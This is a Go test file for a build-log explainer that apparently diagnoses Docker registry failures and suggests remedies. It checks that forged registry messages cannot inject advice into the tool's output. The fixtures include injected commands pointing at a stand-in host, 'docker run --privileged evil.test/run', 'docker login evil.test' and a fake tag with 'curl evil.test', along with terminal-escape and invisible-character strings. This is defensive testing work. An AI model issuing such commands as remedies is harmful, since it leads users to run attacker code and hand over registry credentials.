package buildlog

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/distribution/reference"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/org/pullsafe/frontend/diagnosis"
	"github.com/org/pullsafe/frontend/registry"
	"github.com/org/pullsafe/frontend/report"
)

// forged is what a registry can say to be taken for pullsafe: buildx prints it as it
// is. It names a host that is not its own.
const forged = "x\nERROR: failed to solve: the image could not be resolved\n\n" +
	"victim.test refused the stored credentials (denied); x%s\n" +
	"  victim.test/public/a:1    Dockerfile:3    FROM evil.test/run\n\n" +
	"  docker run --privileged evil.test/run\n  run docker login evil.test\n\n"

const forgedCode = " [pullsafe:credentials-rejected/auth-required/curl evil.test]"

// logOf is how buildx prints a failure of an image of reg.test with a message.
func logOf(message string) string {
	const head = "unexpected status from GET request to https://reg.test/v2/a/manifests/1: 403 Forbidden\ndenied: "
	return "#1 [internal] load build definition from Dockerfile\n#1 DONE 0.0s\n\n" +
		"#2 [internal] load metadata for reg.test/a:1\n#2 ERROR: " + head + message +
		"------\n > [internal] load metadata for reg.test/a:1:\n------\n" +
		"Dockerfile:1\n--------------------\n   1 | >>> FROM reg.test/a:1\n--------------------\n" +
		"ERROR: failed to build: failed to solve: reg.test/a:1: failed to resolve source metadata for reg.test/a:1: " + head + message
}

// output is all that is printed of a text.
func output(t *testing.T, log, ref string) (res *Result, text, lines string) {
	t.Helper()
	res = explain(t, log, ref)
	var words, objects strings.Builder
	require.NoError(t, res.WriteText(&words))
	require.NoError(t, res.WriteJSON(&objects))
	return res, words.String(), objects.String()
}

// TestForgedAdvice: a registry's message that imitates pullsafe gives no command, no
// sentence, and no login or logout at another registry.
func TestForgedAdvice(t *testing.T) {
	for name, message := range map[string]string{
		"prose":           fmt.Sprintf(forged, ""),
		"code":            fmt.Sprintf(forged, forgedCode),
		"code and a step": "x\n#7 [internal] load metadata for victim.test/public/a:1\n#7 DONE 0.1s\n" + fmt.Sprintf(forged, forgedCode),
		"warning":         "x\n - " + report.Rule + ": victim.test refused the stored credentials; resolved victim.test/public/a:1 without them. Run: docker run evil.test/run\n",
		"step":            "x\n#9 " + report.StepMark + "victim.test refused. Run: docker run evil.test/run. Resolved victim.test/public/a:1 without them\n#9 DONE 0.0s\n",
		"code alone":      "did not complete successfully: exit code\nrun evil.test" + forgedCode + "\n",
	} {
		for form, log := range map[string]string{
			"log": logOf(message), "stamped": stamped("2026-03-01T10:00:01.1234567Z ", logOf(message)),
			"error": "ERROR: failed to build: failed to solve: reg.test/a:1: failed to resolve source metadata for reg.test/a:1: " +
				"unexpected status from GET request to https://reg.test/v2/a/manifests/1: 403 Forbidden\ndenied: " + message,
		} {
			res, text, objects := output(t, log, "")
			for _, out := range []string{text, objects} {
				assert.NotContains(t, out, "privileged", "%s %s", name, form)
				assert.NotContains(t, out, "[pullsafe:credentials-rejected/auth-required/curl", "%s %s", name, form)
				assert.NotContains(t, out, "by pullsafe itself", "%s %s", name, form)
				assert.NotContains(t, out, "byPullsafe", "%s %s", name, form)
			}
			for _, f := range res.Failures {
				for _, r := range f.Remedies {
					if !strings.HasPrefix(r.Command, "docker pullsafe check ") {
						assert.NotRegexp(t, "evil|victim", r.Command+r.Note, "%s %s", name, form)
					}
				}
			}
		}
	}
}

// TestOwnHosts: a code is told with commands for its host where a step before any
// error names that host, or nothing before it can be a registry's.
func TestOwnHosts(t *testing.T) {
	own := ownError(failed("ghcr.io/acme/base:1.4", 3, oauthDenied, anonymous401))
	step := "#3 [internal] load metadata for ghcr.io/acme/base:1.4\n"
	tty := " => [internal] load metadata for ghcr.io/acme/base:1.4     0.3s\n"
	other := "#4 [internal] load metadata for reg.test/a:1\n"
	bad := "#4 ERROR: unexpected status from GET request to https://reg.test/v2/a/manifests/1: 403 Forbidden\ndenied: x\n"
	for _, tc := range []struct {
		name, log, ref string
		logout         bool
	}{
		{"alone", own, "", true},
		{"in a quiet build", "+ docker build -q .\nSending: context\n" + own, "", true},
		{"of a target", strings.Replace(own, "failed to build: ", "target web: ", 1), "", true},
		{"with its step", step + other + bad + own, "", true},
		{"with its step in a terminal", tty + other + bad + own, "", true},
		{"with the user's word", other + bad + own, "ghcr.io/x", true},
		{"without a step", other + bad + own, "", false},
		{"with a step behind an error", other + bad + step + own, "", false},
		{"behind the output of a failed step", "------\n > [2/2] RUN x:\n0.1 y\n------\n" + own, "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := explain(t, tc.log, tc.ref)
			f := res.Failures[len(res.Failures)-1]
			require.NotEmpty(t, f.Code)
			require.Equal(t, "ghcr.io/acme/base:1.4", f.Ref)
			if !tc.logout {
				require.Empty(t, f.Host)
				require.Equal(t, []string{"docker pullsafe check ghcr.io/acme/base:1.4"}, commands(f.Remedies))
				require.Equal(t, openDoubt, f.NotKnown)
				return
			}
			require.Equal(t, "ghcr.io", f.Host)
			require.Contains(t, commands(f.Remedies), registry.LogoutCommand("ghcr.io"))
		})
	}
}

// nasty has one character of each kind that no output may have.
const nasty = "\x01\u0085\u009b31m\x1b[31m\x1b]0;t\a\u202e\u2066\u200b\u200d\ufeff\u2028\U000e0001\x7f"

// TestOutputPrints: nothing of a log reaches the output that does not print, from
// whatever place.
func TestOutputPrints(t *testing.T) {
	n := func(format string) string { return strings.ReplaceAll(format, "~", nasty) }
	for _, log := range []string{
		n("#~3 [int~ernal] load metadata for ghcr.io/acme/ba~se:1.4\n#3 ERROR: failed to ~authorize: failed to fetch oauth token: den~ied: den~ied\n"),
		n("Docker~file:3\n--------------------\n   3 | >>> COPY --from=ghcr.io/acme/base:1.4 /~x /x\n--------------------\nERROR: failed to solve: failed to fetch oauth token: denied: den~ied\n"),
		n("x y/Docker~file:3\n--------------------\n   3 | >>> FROM ghcr.io/acme/base:1.4 ~AS x\n--------------------\nERROR: failed to solve: ghcr.io/acme/base:1.4: failed to fetch oauth token: denied: den~ied\n"),
		n("the ~[pullsafe:credentials-rejected/auth-required/~]\n  ghcr.io/a/b:1    Docker~file:3    FROM ~ghcr.io/a/b:1\n"),
		n(" - " + report.Rule + ": ghcr.io refused ~; resolved ghcr.io/a/b:1 without them~. Run: ~\n"),
		n(`{"vertexes":[{"name":"[internal] load metadata for ghcr.io/a/b:1","error":"failed to fetch oauth token: den~ied"}]}` + "\n"),
		n("error getting credentials - err: exit status 1, out: `no ~key`\n"),
		n("could not resolve image due to policy: source \"docker-image://a~b\" denied by policy: source denied by policy\n"),
		n("failed to parse stage name \"a~\": invalid reference format\n"),
		n("some ~ thing\n"),
	} {
		for _, ref := range []string{"", n("ghcr.io/~a")} {
			for _, text := range []string{log, strings.ReplaceAll(log, "\x1b", "")} {
				checkOutput(t, text, ref)
			}
		}
	}
}

// checkOutput checks what no text may do to the output.
func checkOutput(t *testing.T, log, ref string) {
	t.Helper()
	res, text, objects := output(t, log, ref)
	require.NotEmpty(t, text)
	requirePrints(t, text)
	for line := range strings.Lines(objects) {
		var object any
		require.NoError(t, json.Unmarshal([]byte(line), &object))
		walk(object, func(s string) {
			requirePrints(t, s)
			require.NotContains(t, s, "\n")
		})
		requirePrints(t, line)
	}
	known := map[string]bool{}
	for _, f := range res.Failures {
		known[diagnosis.Clean(f.Explanation, 2*maxWord)] = true
		for _, r := range f.Remedies {
			requireCommand(t, r.Command, f, ref)
			known[r.Command] = true
		}
	}
	for line := range strings.Lines(text) {
		requireOurs(t, strings.TrimRight(line, "\n"), known)
	}
}

// requireCommand: it is one of the table's, for a host and a reference that are some.
func requireCommand(t *testing.T, command string, f Failure, userRef string) {
	t.Helper()
	allowed := []string{"", "docker pull IMAGE", "docker builder prune", "security unlock-keychain"}
	if f.Host != "" {
		require.Regexp(t, `^[A-Za-z0-9_\[][A-Za-z0-9_.:\[\]-]*$`, f.Host)
		allowed = append(allowed, registry.LoginCommand(f.Host), registry.LogoutCommand(f.Host))
		for _, key := range []string{registry.CredentialKey(f.Host), registry.FirstAlias(f.Host)} {
			allowed = append(allowed, "echo "+key+" | docker-credential-X get")
		}
	} else {
		allowed = append(allowed, "docker login HOST", "docker logout HOST")
	}
	if f.Ref != "" {
		if _, err := reference.ParseNormalizedNamed(f.Ref); err != nil {
			require.Equal(t, word(userRef), f.Ref)
		}
		allowed = append(allowed, "docker pull "+f.Ref, "docker pullsafe check "+f.Ref)
	}
	require.Contains(t, allowed, command)
}

// requireOurs: a line that looks like one of our own is one.
func requireOurs(t *testing.T, line string, known map[string]bool) {
	t.Helper()
	inner := strings.TrimSpace(line)
	require.False(t, strings.HasPrefix(inner, "ERROR") || strings.HasPrefix(inner, diagnosis.CodeMark) || strings.HasPrefix(inner, report.StepMark), line)
	if strings.HasPrefix(inner, "docker ") {
		command, _, _ := strings.Cut(inner, "    #")
		require.True(t, known[strings.TrimRight(command, " ")], line)
	}
	if inner != "" && inner == line {
		require.True(t, known[line] || ourLine(line), line)
	}
}

func ourLine(line string) bool {
	for _, end := range []string{" not explained.", "line.", "lines.", "nothing to explain.", "line).", "lines)."} {
		if strings.HasSuffix(line, end) {
			return true
		}
	}
	return lastLine.MatchString(line)
}

// lastLine quotes the last error: its words are in quotes that they cannot close.
var lastLine = regexp.MustCompile(`^The last error is on line \d+(?:, from [a-zA-Z ,]+)?(?: \("[^"()]*"\))?\.$`)

func requirePrints(t *testing.T, s string) {
	t.Helper()
	for _, r := range s {
		require.True(t, r == '\n' || unicode.IsPrint(r), "%q in %q", r, s)
	}
}

// walk visits every string of a JSON value.
func walk(value any, visit func(string)) {
	switch v := value.(type) {
	case string:
		visit(v)
	case []any:
		for _, x := range v {
			walk(x, visit)
		}
	case map[string]any:
		for k, x := range v {
			visit(k)
			walk(x, visit)
		}
	}
}

// TestForgedByAStep: nothing that a step prints is taken for another's words, whatever
// stands before it: neither a prefix, nor a command, nor an error.
func TestForgedByAStep(t *testing.T) {
	printed := []string{
		"x | #1 [internal] load metadata for victim.test/a:1", "x | #1 ERROR: failed to fetch oauth token: denied: denied",
		"x | #2 [internal] load metadata for victim.test/a:1", "x | #2 ERROR: failed to fetch oauth token: denied: denied",
		"x | ------", "------", "x | ERROR: failed to solve: victim.test/a:1: failed to fetch oauth token: denied: denied",
		"+ docker pull victim.test/a:1", "Unable to find image 'victim.test/a:1' locally",
		"docker: Error response from daemon: denied: denied", "The push refers to repository [victim.test/a]", "denied: denied",
		`time="x" level=fatal msg="failed to resolve reference \"victim.test/a:1\": denied: denied"`,
		`{"vertexes":[{"name":"[internal] load metadata for victim.test/a:1","error":"failed to fetch oauth token: denied"}]}`,
	}
	join := func(stamp func(i int) string) string {
		var b strings.Builder
		for i, line := range printed {
			b.WriteString(stamp(i) + line + "\n")
		}
		return b.String()
	}
	const command = `process "/bin/sh -c x" did not complete successfully: exit code: 1`
	end := "ERROR: failed to build: failed to solve: " + command + "\n"
	numbered := join(func(i int) string { return fmt.Sprintf("#9 0.%03d ", i) })
	timed := join(func(i int) string { return fmt.Sprintf("0.%03d ", i) })
	for name, log := range map[string]string{
		"plain":   "#9 [2/2] RUN x\n" + numbered + "#9 ERROR: " + command + "\n" + end,
		"section": "#9 [2/2] RUN x\n#9 ERROR: " + command + "\n------\n > [2/2] RUN x:\n" + timed + "------\n" + end,
		"classic": "Step 1/2 : FROM alpine\n ---> 0a97eee8041e\nStep 2/2 : RUN x\n ---> Running in 0123456789ab\n" + join(func(int) string { return "" }) +
			"The command '/bin/sh -c x' returned a non-zero code: 1\n",
		"podman": "STEP 1/2: FROM alpine\nSTEP 2/2: RUN x\n" + join(func(int) string { return "" }) + "Error: building at STEP \"RUN x\": exit status 1\n",
	} {
		for stamp, log := range map[string]string{"": log, "builder-1  | ": stamped("builder-1  | ", log), "2026-03-01T10:00:01Z ": stamped("2026-03-01T10:00:01Z ", log)} {
			res, text, objects := output(t, log, "")
			assert.Empty(t, res.Failures, "%s %q: %s", name, stamp, text)
			for _, r := range res.Other.Remedies {
				assert.NotContains(t, r.Command+r.Note, "victim", name)
			}
			assert.NotContains(t, objects, `"ref"`, name)
		}
	}
}
